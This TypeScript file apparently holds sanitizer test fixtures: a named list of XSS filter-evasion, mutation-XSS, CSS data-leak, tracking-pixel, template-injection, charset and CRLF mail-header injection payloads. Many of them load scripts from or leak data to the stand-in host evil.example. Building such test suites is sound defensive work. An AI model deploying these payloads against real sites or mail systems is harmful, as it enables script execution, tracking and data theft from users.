/**
 * Well-known ways to make a page run, fetch or leak something, after OWASP's XSS filter evasion cheat sheet, the HTML5 Security
 * Cheatsheet, PortSwigger's collection and published bypasses of mail programs. Where one works it shows a dialog or asks
 * `evil.example` for something.
 */
export interface Payload {
  readonly name: string
  readonly html: string
  /** Of the HTML part; utf-8 where none is named. */
  readonly charset?: string
}

const E = 'http://evil.example'

export const PAYLOADS: readonly Payload[] = [
  // Scripts
  { name: 'script', html: '<script>alert(1)</script>' },
  { name: 'script in capitals', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script from elsewhere', html: `<script src="${E}/x.js"></script>` },
  { name: 'script without a scheme', html: '<script src=//evil.example/x.js></script>' },
  { name: 'script with a slash', html: '<script/x>alert(1)</script>' },
  { name: 'script nested in itself', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script that never ends', html: `<script src=${E}/x.js?<b>` },
  { name: 'doubled brackets', html: '<<script>alert(1);//<</script>' },
  { name: 'script of a data address', html: '<script src="data:text/javascript,alert(1)"></script>' },
  { name: 'module', html: '<script type=module>alert(1)</script>' },
  {
    name: 'import map',
    html: `<script type=importmap>{"imports":{"x":"${E}/m.js"}}</script><script type=module>import "x"</script>`,
  },
  {
    name: 'speculation rules',
    html: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${E}/s"]}]}</script>`,
  },
  { name: 'character references in a script', html: '<script>&#97;lert(1)</script>' },
  { name: 'NUL in a name', html: '<scr\0ipt>alert(1)</scr\0ipt>' },
  { name: 'closing a title', html: '</title><script>alert(1)</script>' },
  { name: 'closing a textarea', html: '</textarea><script>alert(1)</script>' },
  { name: 'closing a style', html: '</style><script>alert(1)</script>' },
  { name: 'closing an attribute', html: '"><script>alert(1)</script>' },
  { name: 'closing an attribute with an apostrophe', html: "'><script>alert(1)</script>" },
  // Handlers
  { name: 'broken image', html: '<img src=x onerror=alert(1)>' },
  { name: 'broken image, quoted', html: '"><img src=x onerror=alert(1)>' },
  { name: 'broken image with slashes', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'broken image with a form feed', html: '<img\fsrc=x\fonerror=alert(1)>' },
  { name: 'broken image, entities', html: '<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>' },
  { name: 'broken image with backticks', html: '<img src=`x` onerror=alert`1`>' },
  { name: 'malformed image tag', html: '<IMG """><SCRIPT>alert(1)</SCRIPT>">' },
  {
    name: 'image that loads',
    html: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=alert(1)>',
  },
  { name: 'body', html: '<body onload=alert(1)>' },
  { name: 'body shown', html: '<body onpageshow=alert(1)>' },
  { name: 'autofocus', html: '<input onfocus=alert(1) autofocus>' },
  { name: 'autofocus of a select', html: '<select onfocus=alert(1) autofocus>' },
  { name: 'focus of anything', html: '<x tabindex=1 onfocus=alert(1) autofocus>' },
  { name: 'details', html: '<details open ontoggle=alert(1)>' },
  { name: 'marquee', html: '<marquee onstart=alert(1)>' },
  { name: 'video without a source', html: '<video><source onerror=alert(1)></video>' },
  { name: 'audio', html: '<audio src=x onerror=alert(1)>' },
  {
    name: 'animation',
    html: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>',
  },
  {
    name: 'transition',
    html: '<style>b{transition:color 0s}b:hover{color:red}</style><b ontransitionend=alert(1) onpointerrawupdate=alert(1)>x</b>',
  },
  {
    name: 'content visibility',
    html: '<b style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</b>',
  },
  { name: 'popover', html: '<button popovertarget=p>x</button><b popover id=p onbeforetoggle=alert(1)>y</b>' },
  { name: 'image set with a handler', html: '<picture><source srcset=x><img onerror=alert(1) src=x></picture>' },
  { name: 'stylesheet that fails', html: `<link rel=stylesheet href="${E}/x.css" onerror=alert(1)>` },
  { name: 'style that loads', html: '<style onload=alert(1)></style>' },
  { name: 'object that fails', html: '<object data=x onerror=alert(1)></object>' },
  // SVG and MathML
  { name: 'svg', html: '<svg onload=alert(1)>' },
  { name: 'svg with a slash', html: '<svg/onload=alert(1)>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg script, entities', html: '<svg><script>&#97;lert(1)</script></svg>' },
  { name: 'svg script from elsewhere', html: `<svg><script href="${E}/x.js"></script></svg>` },
  { name: 'svg animation', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>' },
  { name: 'svg set', html: '<svg><set onbegin=alert(1) attributeName=x></svg>' },
  { name: 'svg link', html: '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>' },
  {
    name: 'svg animated link',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  },
  { name: 'svg image', html: `<svg><image href="${E}/i.png" onerror=alert(1) /></svg>` },
  { name: 'svg use', html: `<svg><use href="${E}/s.svg#a" /></svg>` },
  {
    name: 'svg filter image',
    html: `<svg><filter id=f><feImage href="${E}/f.png" /></filter><rect width=9 height=9 filter="url(#f)" /></svg>`,
  },
  { name: 'svg foreign object', html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>' },
  { name: 'svg style import', html: `<svg><style>@import "${E}/x.css";</style></svg>` },
  {
    name: 'svg as an image',
    html: "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  },
  { name: 'mathml link', html: '<math href="javascript:alert(1)">x</math>' },
  {
    name: 'mathml action',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  // Addresses
  { name: 'javascript link', html: '<a href="javascript:alert(1)">x</a>' },
  {
    name: 'javascript link, entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  },
  { name: 'javascript link, long entities', html: '<a href="&#0000106avascript:alert(1)">x</a>' },
  { name: 'javascript link, tab inside', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'javascript link, line break inside', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'javascript link, control in front', html: '<a href=" &#14; javascript:alert(1)">x</a>' },
  { name: 'javascript link, percent', html: '<a href="javascript:%61lert(1)">x</a>' },
  { name: 'javascript link, line comment', html: '<a href="javascript://%0aalert(1)">x</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'data link', html: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'data link, base64', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { name: 'Markdown link', html: '[x](javascript:alert(1))' },
  { name: 'Markdown image', html: `![x](${E}/m.png)` },
  { name: 'Markdown link with a title', html: '[x](https://a.example "onmouseover=alert(1)")' },
  { name: 'Markdown autolink', html: '<javascript:alert(1)>' },
  { name: 'Markdown reference', html: '[x][y]\n\n[y]: javascript:alert(1)' },
  { name: 'ping', html: `<a href="#x" ping="${E}/p">x</a>` },
  // Frames and documents
  { name: 'frame', html: `<iframe src="${E}/f"></iframe>` },
  { name: 'frame of javascript', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'frame of a document', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'frame of an escaped document', html: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>' },
  { name: 'frame of data', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
  { name: 'frame of this very site', html: '<iframe src="/" onload=alert(1)></iframe>' },
  { name: 'frameset', html: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>' },
  { name: 'object', html: `<object data="${E}/o"></object>` },
  { name: 'object of data', html: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  { name: 'object of javascript', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', html: '<embed src="javascript:alert(1)">' },
  { name: 'embed of data', html: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { name: 'portal', html: `<portal src="${E}/p"></portal>` },
  { name: 'applet', html: `<applet code=x archive="${E}/a.jar"></applet>` },
  { name: 'mhtml', html: `<iframe src="mhtml:${E}/x!x.html"></iframe><img src="mhtml:${E}/x!y.png">` },
  { name: 'content id', html: '<img src="cid:x@y" onerror=alert(1)>' },
  // Head
  { name: 'refresh', html: `<meta http-equiv=refresh content="0;url=${E}/r">` },
  { name: 'refresh to javascript', html: '<meta http-equiv=refresh content="0;url=javascript:alert(1)">' },
  {
    name: 'refresh to data',
    html: '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  },
  { name: 'refresh, quoted twice', html: `<meta http-equiv="refresh" content="0; url='${E}/r2'">` },
  { name: 'cookie', html: '<meta http-equiv="Set-Cookie" content="a=1">' },
  {
    name: 'a policy of its own',
    html: '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>alert(1)</script>',
  },
  { name: 'base', html: `<base href="${E}/"><img src="b.png"><script src="x.js"></script>` },
  { name: 'stylesheet', html: `<link rel=stylesheet href="${E}/x.css">` },
  { name: 'preload', html: `<link rel=preload as=image href="${E}/p.png">` },
  { name: 'prefetch', html: `<link rel=prefetch href="${E}/p">` },
  { name: 'preconnect', html: `<link rel=preconnect href="${E}"><link rel=dns-prefetch href="${E}">` },
  { name: 'icon', html: `<link rel=icon href="${E}/i.ico">` },
  { name: 'manifest', html: `<link rel=manifest href="${E}/m.json">` },
  { name: 'module preload', html: `<link rel=modulepreload href="${E}/m.js">` },
  // Pixels
  { name: 'pixel', html: `<img src="${E}/t.gif" width=1 height=1>` },
  { name: 'pixel without a scheme', html: '<img src="//evil.example/t.gif">' },
  { name: 'pixel with backslashes', html: '<img src="\\\\evil.example\\t.gif">' },
  { name: 'pixel set', html: `<img srcset="${E}/a.png 1x, ${E}/b.png 2x">` },
  { name: 'pixel, lazily', html: `<img loading=lazy src="${E}/l.png">` },
  { name: 'poster', html: `<video poster="${E}/p.png" src="${E}/v.mp4" autoplay></video>` },
  { name: 'track', html: `<video><track default src="${E}/t.vtt"></video>` },
  {
    name: 'background',
    html: `<body background="${E}/b.png"><table background="${E}/t.png"><tr><td background="${E}/c.png">x</table>`,
  },
  { name: 'image button', html: `<input type=image src="${E}/i.png">` },
  // Style
  { name: 'background of a style', html: `<p style="background:url(${E}/s.png)">x</p>` },
  { name: 'background, escaped', html: '<p style="background:u\\72l(http://evil.example/e.png)">x</p>' },
  { name: 'background, entities', html: '<p style="background:&#117;rl(http://evil.example/n.png)">x</p>' },
  { name: 'background in a quoted address with a bracket', html: `<p style="background:url('${E}/a)b.png')">x</p>` },
  { name: 'image set', html: `<p style="background:image-set('${E}/i.png' 1x)">x</p>` },
  { name: 'list marks', html: `<ul style="list-style-image:url(${E}/l.png)"><li>x</ul>` },
  {
    name: 'cursor and content',
    html: `<style>p{cursor:url(${E}/c.cur),auto}p::before{content:url(${E}/c.png)}</style><p>x</p>`,
  },
  { name: 'import', html: `<style>@import url(${E}/i.css);</style>` },
  { name: 'import without url', html: `<style>@import "${E}/j.css";</style>` },
  {
    name: 'import behind a comment',
    html: '<style>@im/**/port"http://evil.example/k.css";@import/**/"http://evil.example/k2.css";</style>',
  },
  { name: 'font', html: `<style>@font-face{font-family:x;src:url(${E}/f.woff)}p{font-family:x}</style><p>x</p>` },
  { name: 'leak of an attribute', html: `<style>input[value^=a]{background:url(${E}/a)}</style><input value=a>` },
  { name: 'expression', html: '<p style="width:expression(alert(1))">x</p>' },
  { name: 'expression with a comment', html: '<p style="xss:expr/*x*/ession(alert(1))">x</p>' },
  { name: 'binding', html: `<p style="-moz-binding:url(${E}/x.xml#x);behavior:url(${E}/x.htc)">x</p>` },
  { name: 'style that breaks out of itself', html: '<style>a{}</style><img src=x onerror=alert(1)><style>' },
  {
    name: 'overlay of the page',
    html: '<div style="position:fixed;inset:0;z-index:9999;background:red">Sign in</div>',
  },
  // Forms
  { name: 'form', html: `<form action="${E}/f"><input name=a autofocus><button>x</button></form>` },
  { name: 'form of javascript', html: '<form action="javascript:alert(1)"><input type=submit autofocus></form>' },
  { name: 'button of javascript', html: '<form><button formaction="javascript:alert(1)">x</button></form>' },
  {
    name: 'clobbering',
    html: '<form id=x><input id=attributes name=body></form><a id=location href=javascript:alert(1)>x</a>',
  },
  // Comments and parsers at odds
  { name: 'leaving a comment', html: '--><script>alert(1)</script><!--' },
  { name: 'leaving a comment with a bang', html: '<!-- --!><script>alert(1)</script>' },
  { name: 'an empty comment', html: '<!--><script>alert(1)</script>-->' },
  { name: 'comment of Outlook', html: '<!--[if mso]><script>alert(1)</script><![endif]-->' },
  { name: 'comment of Outlook, shown', html: '<![if !mso]><script>alert(1)</script><![endif]>' },
  { name: 'CDATA', html: '<![CDATA[><script>alert(1)</script>]]>' },
  { name: 'processing instruction', html: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'stylesheet instruction', html: `<?xml-stylesheet href="${E}/x.xsl" type="text/xsl"?>` },
  { name: 'mutation through noscript', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  {
    name: 'mutation through math and style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  { name: 'mutation through svg and style', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: 'mutation through form and table',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  {
    name: 'mutation through a template',
    html: '<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>',
  },
  {
    name: 'declarative shadow',
    html: '<div><template shadowrootmode=open><img src=x onerror=alert(1)><script>alert(1)</script></template></div>',
  },
  { name: 'title in svg', html: '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>' },
  { name: 'xmp', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: 'plaintext', html: '<plaintext><script>alert(1)</script>' },
  { name: 'a tag of odd letters', html: '<ſcript>alert(1)</ſcript><ſvg onload=alert(1)>' },
  { name: 'an attribute that never ends', html: '<img src="x onerror=alert(1)' },
  // Templates
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must stay text
  { name: 'template literal', html: '${alert(1)} #{alert(1)} <%= alert(1) %>' },
  {
    name: 'our own slots',
    html: '{{title}} {{#each briefs as b}}{{{b}}}{{/each}} {{constructor.constructor("alert(1)")()}}',
  },
  { name: 'Angular', html: '<div ng-app ng-csp>{{$on.constructor("alert(1)")()}}</div>' },
  // Charsets
  { name: 'UTF-7', html: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', charset: 'utf-7' },
  { name: 'UTF-7 named inside', html: '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  {
    name: 'ISO-2022-JP',
    html: '<img alt="\u001b$B"><p title="\u001b(B onerror=alert(1) src=x ">',
    charset: 'iso-2022-jp',
  },
  { name: 'UTF-16 said, ASCII sent', html: '<script>alert(1)</script>', charset: 'utf-16' },
  { name: 'US-ASCII with high bits', html: '¼script¾alert(1)¼/script¾', charset: 'us-ascii' },
  { name: 'overlong bytes', html: '\u00c0\u00bcscript\u00c0\u00bealert(1)', charset: 'iso-8859-1' },
  { name: 'a charset with a quote', html: '<script>alert(1)</script>', charset: '"><script>alert(1)</script>' },
  { name: 'bidi', html: '\u202e<tpircs/>)1(trela<tpircs>\u202c<b>\u2066x\u2069</b>' },
  { name: 'byte order mark', html: '\ufeff<script>alert(1)</script>' },
  // Headers
  { name: 'another header', html: 'x\r\nBcc: everybody@evil.example\r\nX: y' },
  { name: 'a body of its own', html: 'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>' },
  {
    name: 'another part',
    html: 'x\r\n--bound\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--bound--\r\n',
  },
  { name: 'bare line feeds', html: 'x\nBcc: everybody@evil.example\n\n<img src=x onerror=alert(1)>' },
  {
    name: 'encoded word',
    html: '=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= =?utf-8?Q?=0D=0ABcc:_x@evil.example?=',
  },
  { name: 'response splitting', html: '%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>' },
]
